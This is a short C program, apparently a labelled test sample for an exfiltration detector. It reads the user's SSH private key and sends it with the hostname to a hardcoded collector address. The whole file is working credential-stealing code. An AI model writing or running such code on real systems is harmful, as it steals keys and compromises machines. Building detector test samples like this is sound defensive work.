// blind-expect: behavior.exfiltration
// Reads the user's SSH private key and uploads it, tagged with the hostname, to a remote collector.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define COLLECTOR_IP "192.0.2.10"
#define COLLECTOR_PORT 443

int main(void)
{
    const char *home = getenv("HOME");
    if (!home)
        home = "/root";
    char path[512];
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", home);

    FILE *f = fopen(path, "rb");
    if (!f)
        return 0;
    static char key[16384];
    size_t len = fread(key, 1, sizeof key, f);
    fclose(f);

    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0)
        return 1;
    struct sockaddr_in addr;
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_port = htons(COLLECTOR_PORT);
    inet_pton(AF_INET, COLLECTOR_IP, &addr.sin_addr);
    if (connect(s, (struct sockaddr *)&addr, sizeof addr) != 0) {
        close(s);
        return 1;
    }

    char host[256] = "unknown";
    gethostname(host, sizeof host - 1);
    char hdr[320];
    int hl = snprintf(hdr, sizeof hdr, "KEY %s %zu\n", host, len);
    send(s, hdr, (size_t)hl, 0);
    send(s, key, len, 0);
    close(s);
    return 0;
}
